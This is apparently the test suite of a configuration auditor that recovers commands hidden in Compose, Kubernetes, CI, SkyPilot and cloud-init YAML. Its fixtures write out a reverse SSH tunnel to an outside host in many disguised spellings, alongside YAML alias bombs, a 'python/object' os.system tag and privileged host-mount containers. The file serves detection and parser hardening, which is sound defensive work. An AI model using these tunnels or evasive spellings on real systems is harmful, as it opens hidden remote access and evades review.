"""YAML that starts programs: Compose, Kubernetes, CI workflows, SkyPilot, cloud-init."""

# ruff: noqa: E501  (texts of carriers are read more easily whole)

from __future__ import annotations

import pytest

from auditor.model.gap import Why
from auditor.model.unit import Language
from tests.read.carriers.readings import TUNNEL, effects_of, line_of, lines_of, read

WORDS = "[ssh, -N, -R, '2222:localhost:22', agent@203.0.113.7]"
POD = "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - name: a\n    image: x.example/a\n"

SPELLINGS: dict[str, tuple[Language, str]] = {
    "compose command": (Language.COMPOSE, f"services:\n  a:\n    image: a\n    command: {TUNNEL}\n"),
    "compose list": (Language.COMPOSE, f"services:\n  a:\n    image: a\n    command: {WORDS}\n"),
    "compose shell": (Language.COMPOSE, f'services:\n  a:\n    image: a\n    entrypoint: sh -c "{TUNNEL}"\n'),
    "compose entry and command": (
        Language.COMPOSE,
        "services:\n  a:\n    build: .\n    entrypoint: [ssh, -N]\n    command: [-R, '2222:localhost:22', agent@203.0.113.7]",
    ),
    "compose variable": (
        Language.COMPOSE,
        "services:\n  a:\n    image: a\n    command: ssh -N -R ${PORT:-2222}:localhost:22 agent@203.0.113.7\n",
    ),
    "compose merge": (
        Language.COMPOSE,
        f"x-base: &base\n  image: a\n  command: {WORDS}\nservices:\n  a:\n    <<: *base\n    restart: always\n",
    ),
    "compose healthcheck": (
        Language.COMPOSE,
        f'services:\n  a:\n    image: a\n    healthcheck:\n      test: ["CMD-SHELL", "{TUNNEL}"]\n',
    ),
    "pod": (Language.MANIFEST, POD + f"    command: {WORDS}\n"),
    "pod with args": (
        Language.MANIFEST,
        POD + "    command: [ssh]\n    args: [-N, -R, '2222:localhost:22', agent@203.0.113.7]",
    ),
    "pod with env": (
        Language.MANIFEST,
        POD + "    env: [{name: H, value: 203.0.113.7}]\n    command: [ssh, -N, -R, '2222:localhost:22', agent@$(H)]\n",
    ),
    "pod with shell": (
        Language.MANIFEST,
        POD + f"    command: [sh, -c]\n    args:\n    - |\n      set -e\n      {TUNNEL}\n",
    ),
    "pod hook": (
        Language.MANIFEST,
        POD + f"    lifecycle:\n      postStart:\n        exec:\n          command: {WORDS}\n",
    ),
    "init container": (Language.MANIFEST, POD + f"  initContainers:\n  - image: b\n    command: {WORDS}\n"),
    "cron job": (
        Language.MANIFEST,
        "apiVersion: batch/v1\nkind: CronJob\nspec:\n  jobTemplate:\n    spec:\n      template:\n        spec:\n"
        f"          containers:\n          - image: a\n            command: {WORDS}\n",
    ),
    "list": (
        Language.MANIFEST,
        "apiVersion: v1\nkind: List\nitems:\n- apiVersion: apps/v1\n  kind: Deployment\n  spec: {template: {spec: "
        f"{{containers: [{{image: a, command: {WORDS}}}]}}}}}}\n",
    ),
    "second document": (Language.MANIFEST, "apiVersion: v1\nkind: Service\n---\n" + POD + f"    command: {WORDS}\n"),
    "argo script": (
        Language.MANIFEST,
        "apiVersion: argoproj.io/v1alpha1\nkind: Workflow\nspec:\n  templates:\n  - script:\n      image: python\n"
        f"      command: [python]\n      source: |\n        import os\n        os.system('{TUNNEL}')\n",
    ),
    "helm template": (
        Language.MANIFEST,
        "{{- if .Values.on }}\n" + POD + f"    tag: {{{{ .Values.tag }}}}\n    command: {WORDS}\n{{{{- end }}}}\n",
    ),
    "json": (
        Language.MANIFEST,
        '{"apiVersion": "v1",\n\t"kind": "Pod", "spec": {"containers": [{"image": "a", "command": '
        '["ssh", "-N", "-R", "2222:localhost:22", "agent@203.0.113.7"]}]}}',
    ),
    "actions": (Language.WORKFLOW, f"on: push\njobs:\n  a:\n    steps:\n    - run: {TUNNEL}\n"),
    "actions env": (
        Language.WORKFLOW,
        "env: {A: ss}\njobs:\n  a:\n    env: {B: h}\n    steps:\n    - env: {H: 203.0.113.7}\n"
        "      run: |\n        $A$B -N -R 2222:localhost:22 agent@${{ env.H }}\n",
    ),
    "actions python": (
        Language.WORKFLOW,
        f"jobs:\n  a:\n    steps:\n    - shell: python\n      run: |\n        import os\n        os.system('{TUNNEL}')\n",
    ),
    "actions default shell": (
        Language.WORKFLOW,
        f"defaults: {{run: {{shell: python}}}}\njobs:\n  a:\n    steps:\n    - run: import os; os.system('{TUNNEL}')\n",
    ),
    "composite action": (
        Language.WORKFLOW,
        f"name: x\nruns:\n  using: composite\n  steps:\n  - run: {TUNNEL}\n    shell: bash\n",
    ),
    "docker action": (
        Language.WORKFLOW,
        "runs:\n  using: docker\n  image: docker://a\n  entrypoint: ssh\n  args: [-N, -R, '2222:localhost:22', "
        "agent@203.0.113.7]",
    ),
    "gitlab": (Language.WORKFLOW, f"stages: [a]\nbuild:\n  script:\n    - true\n    - {TUNNEL}\n"),
    "gitlab across items": (
        Language.WORKFLOW,
        "variables: {H: 203.0.113.7}\na:\n  before_script:\n    - export P=2222\n  script:\n"
        "    - ssh -N -R $P:localhost:22 agent@$H\n",
    ),
    "gitlab variables of variables": (
        Language.WORKFLOW,
        "variables: {A: 203.0.113.7, B: agent@$A}\na:\n  script:\n    - ssh -N -R 2222:localhost:22 $B\n",
    ),
    "gitlab reference": (
        Language.WORKFLOW,
        f".base:\n  script:\n    - {TUNNEL}\na:\n  script:\n    - !reference [.base, script]\n    - true\n",
    ),
    "circle": (Language.WORKFLOW, f"version: 2.1\njobs:\n  a:\n    steps:\n    - run: {{command: {TUNNEL!r}}}\n"),
    "azure": (Language.WORKFLOW, f"stages:\n- stage: a\n  jobs:\n  - job: b\n    steps:\n    - bash: {TUNNEL}\n"),
    "task setup": (
        Language.MANIFEST,
        f"resources: {{accelerators: 'A100:8'}}\nsetup: {TUNNEL}\nrun: python train.py\n",
    ),
    "task run": (
        Language.MANIFEST,
        "envs: {H: 203.0.113.7}\nsetup: true\nrun: |\n  ssh -N -R 2222:localhost:22 agent@$H\n",
    ),
    "cloud-init": (Language.MANIFEST, f"#cloud-config\nruncmd:\n  - true\n  - {WORDS}\n"),
    "cloud-init file": (
        Language.MANIFEST,
        f"#cloud-config\nwrite_files:\n- path: /a.sh\n  content: |\n    {TUNNEL}\nruncmd:\n- bash /a.sh\n",
    ),
}


@pytest.mark.parametrize(("language", "text"), SPELLINGS.values(), ids=SPELLINGS.keys())
def test_the_command_is_recovered(language: Language, text: str) -> None:
    """Whatever document starts it, the command is read."""
    assert TUNNEL in effects_of(text, language)


def test_accelerators_of_a_cluster() -> None:
    """GPUs asked for in limits are a request to the cluster."""
    text = POD + "    resources: {limits: {nvidia.com/gpu: 8, memory: 1Gi}}\n"
    lines = effects_of(text, Language.MANIFEST)
    assert [line for line in lines if line.startswith("cloud.")] == ["cloud.request kubernetes nvidia.com/gpu 8"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "resources: {accelerators: 'A100:8', cloud: aws, region: us-east-1}\nnum_nodes: 2\nrun: id\n",
            "cloud.provision skypilot aws A100 16 us-east-1",
        ),
        ("resources: {accelerators: {H100: 4}}\nrun: id\n", "cloud.provision skypilot any H100 4 default"),
        ("resources: {any_of: [{accelerators: T4}]}\nrun: id\n", "cloud.provision skypilot any T4 1 default"),
        ("resources: {instance_type: p4d.24xlarge}\nrun: id\n", "cloud.provision skypilot any p4d.24xlarge 1 default"),
        ("setup: true\nrun: id\n", "cloud.provision skypilot any default 1 default"),
        (
            "resources: {accelerators: 'A100:9999999999'}\nnum_nodes: 'x'\nrun: id",
            "cloud.provision skypilot any A100 1 default",
        ),
    ],
)
def test_machines_of_a_task(text: str, expected: str) -> None:
    """A SkyPilot task rents the machines that it names."""
    assert expected in effects_of(text, Language.MANIFEST)


def test_what_opens_a_container_to_the_host() -> None:
    """Privileges and mounts of a service are options of the run."""
    text = "services:\n  a:\n    image: a\n    privileged: true\n    pid: host\n    network_mode: host\n    volumes: ['/:/host']\n"
    assert effects_of(text, Language.COMPOSE) == ["docker run --privileged --pid host --network host -v /:/host a"]


def test_unknown_expressions_stay_unknown() -> None:
    """Values that only the CI knows are parts without a value."""
    lines = effects_of("jobs:\n  a:\n    steps:\n    - run: ping ${{ inputs.host }}\n", Language.WORKFLOW)
    assert lines[0].startswith("ping %{")


def test_powershell_steps_are_a_gap() -> None:
    """A step for a shell that nothing reads is never silent."""
    reading = read("jobs:\n  a:\n    steps:\n    - {shell: pwsh, run: Get-Date}\n", Language.WORKFLOW)
    assert [gap.why for gap in reading.gaps] == [Why.NO_READER]


def test_places_point_to_the_line() -> None:
    """Code in a block is reported on its own line, items of a list on theirs."""
    text = f"jobs:\n  a:\n    steps:\n    - name: x\n      run: |\n        true\n        {TUNNEL}\n"
    assert line_of(read(text, Language.WORKFLOW), TUNNEL) == 7
    text = f"stages: [a]\na:\n  script:\n    - true\n    # why\n    - {TUNNEL}\n    - id -u\n"
    assert line_of(read(text, Language.WORKFLOW), TUNNEL) == 6
    assert line_of(read(text, Language.WORKFLOW), "id -u") == 7


@pytest.mark.parametrize(
    "text",
    [
        f"name: x\ndescription: {TUNNEL}\n",
        f"apiVersion: v1\nkind: ConfigMap\ndata:\n  a.sh: {TUNNEL}\n",
        "- a\n- b\n",
        "a: 1",
        "",
        "# only a comment\n",
        "linters: {enable: [x]}\nissues: {exclude-rules: [{path: _test}]}\n",
    ],
)
def test_mention_is_not_use(text: str) -> None:
    """Plain data, texts and configuration start nothing and leave no gap."""
    assert effects_of(text, Language.MANIFEST) == []


def _bomb(opening: str, closing: str) -> str:
    lines = ["a0: &a0 {x: 1}"]
    lines += [f"a{n + 1}: &a{n + 1} {opening}{', '.join([f'*a{n}'] * 9)}{closing}" for n in range(25)]
    return "\n".join([*lines, "services: {a: *a25}", "jobs: {a: {steps: *a25}}"])


HOSTILE = {
    "flow": "[" * 200_000,
    "flow maps": "a: " + "{a: " * 100_000,
    "indentation": "\n".join(" " * depth + "a:" for depth in range(2_000)),
    "dashes": "- " * 100_000,
    "questions": "? " * 50_000,
    "aliases": _bomb("[", "]"),
    "merges": _bomb("{<<: [", "]}"),
    "recursion": "services: &a {b: *a, <<: *a}\njobs: &j [*j]\n",
    "unknown alias": "services: *nobody",
    "NUL": "a: \0",
    "tags": "!!python/object/apply:os.system [id]",
    "long scalar": "jobs: " + "x" * 1_500_000,
    "expressions": "jobs: {a: {steps: [{run: '" + "${{ a }}" * 20_000 + "'}]}}",
    "many": "- a: b\n" * 100_000,
    "references": "stages: [a]\na:\n  script:\n    - !reference [a, script]\n",
    "templates": "{{ a }}: [\n" * 2_000,
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
@pytest.mark.parametrize("language", [Language.MANIFEST, Language.COMPOSE, Language.WORKFLOW])
def test_hostile_texts_are_survived(language: Language, text: str) -> None:
    """Nothing raises, nothing is constructed, nothing explodes."""
    assert len(read(text, language).effects) < 100


@pytest.mark.parametrize("name", ["flow", "indentation", "many", "NUL"])
def test_what_is_not_read_is_a_gap(name: str) -> None:
    """A document that is too deep, too large or not YAML says so."""
    assert read(HOSTILE[name], Language.MANIFEST).gaps


def test_text_before_a_syntax_error_is_read() -> None:
    """A broken second document does not hide the first."""
    reading = read(f"jobs:\n  a:\n    steps:\n    - run: {TUNNEL}\n---\na: [\n", Language.WORKFLOW)
    assert TUNNEL in lines_of(reading)
    assert [gap.why for gap in reading.gaps] == [Why.NOT_PARSED]


def test_what_a_pod_shares_with_its_host_is_told() -> None:
    """The host's processes and its files stand among the options; files that are only read do not."""
    mounts = "    volumeMounts:\n    - {name: h, mountPath: /host%s}\n"
    rest = "  hostPID: true\n  volumes:\n  - {name: h, hostPath: {path: /}}\n"
    shared = lines_of(read(POD + mounts % "" + rest, Language.MANIFEST))
    assert shared == ["docker run --pid host -v /:/host x.example/a"]
    assert lines_of(read(POD + mounts % ", readOnly: true" + rest, Language.MANIFEST)) == [
        "docker run --pid host x.example/a"
    ]


def test_a_server_of_coreweave_is_a_machine_that_is_rented() -> None:
    """An object of the provider's own kind says which accelerators."""
    text = (
        "apiVersion: virtualservers.coreweave.com/v1alpha1\nkind: VirtualServer\n"
        "spec:\n  resources:\n    gpu: {type: A100_NVLINK_80GB, count: 8}\n"
    )
    assert lines_of(read(text, Language.MANIFEST)) == [
        "cloud.provision coreweave virtualserver A100_NVLINK_80GB 8 default"
    ]
